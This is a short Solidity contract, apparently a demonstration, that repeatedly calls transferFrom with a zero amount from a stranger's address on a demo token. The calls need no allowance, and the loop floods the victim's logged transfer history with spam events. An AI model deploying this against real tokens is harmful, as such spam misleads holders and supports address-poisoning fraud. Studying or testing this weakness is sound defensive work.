// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.15;

import {DemoToken} from "../DemoToken.sol";

/// Moves nothing out of a stranger's account, many times: no allowance is needed for nothing, and each is logged.
contract ZeroTransferSpammer {
    function spam(DemoToken token, address victim, address to, uint256 times) external {
        for (uint256 i = 0; i < times; i++) {
            token.transferFrom(victim, to, 0);
        }
    }
}
